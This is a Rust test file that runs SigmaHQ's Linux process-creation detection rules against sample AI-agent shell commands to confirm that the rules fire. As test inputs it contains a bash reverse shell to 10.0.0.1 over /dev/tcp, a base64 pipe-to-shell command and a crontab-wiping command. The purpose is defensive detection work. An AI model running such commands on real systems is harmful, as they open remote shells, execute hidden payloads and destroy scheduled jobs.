//! SigmaHQ's own Linux process-creation rules (read in place from
//! `sigma/rules` under `PARALLAX_CONFORMANCE_DIR`, by default
//! `../shared/conformance`; DRL licence) run unchanged against agents'
//! shell commands through the shipped field mappings, and every match names
//! the rule's author. Without the corpus the suite is skipped with a
//! message, a failure under `CI=true`.

#![cfg(unix)]

mod support;

use parallax::backend;
use serde_json::json;

#[path = "support/conformance.rs"]
mod conformance;

#[test]
fn linux_process_creation_rules_fire_on_agent_commands() {
    let Some(corpus) = conformance::corpus(
        "SigmaHQ Linux rules",
        "sigma/rules/rules/linux/process_creation",
    ) else {
        return;
    };
    let dir = std::env::temp_dir().join(format!("parallax-sigmahq-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(dir.join("rules")).unwrap();
    std::os::unix::fs::symlink(corpus, dir.join("rules/sigma")).unwrap();
    std::fs::write(dir.join("parallax.yaml"), "rules_dir: rules\n").unwrap();
    let engine =
        backend::dynamic_engine(&dir.join("parallax.yaml")).expect("SigmaHQ rules compile");
    let _ = std::fs::remove_dir_all(&dir);
    assert!(engine.program().rules.len() > 100);

    let eval = |command: &str| {
        let event = json!({"stage": "tool.before", "tool_name": "Bash",
                           "tool_args": {"command": command}});
        support::engine_report::report(&engine, event)
    };
    for (command, title) in [
        (
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "Bash Interactive Shell",
        ),
        (
            "echo cGF5bG9hZA== | base64 -d | sh",
            "Linux Base64 Encoded Pipe to Shell",
        ),
        ("crontab -r", "Remove Scheduled Cron Task/Job"),
    ] {
        let r = eval(command);
        let hit = r.results.iter().find(|x| x.title == title);
        let Some(hit) = hit else {
            panic!("`{title}` did not fire on `{command}`: {:?}", r.results);
        };
        assert!(
            hit.author.as_deref().is_some_and(|a| !a.is_empty()),
            "a SigmaHQ match must carry its author (DRL)"
        );
        assert_eq!(hit.action.as_str(), "detect");
    }
    assert!(eval("ls -la && cargo build").results.is_empty());
}
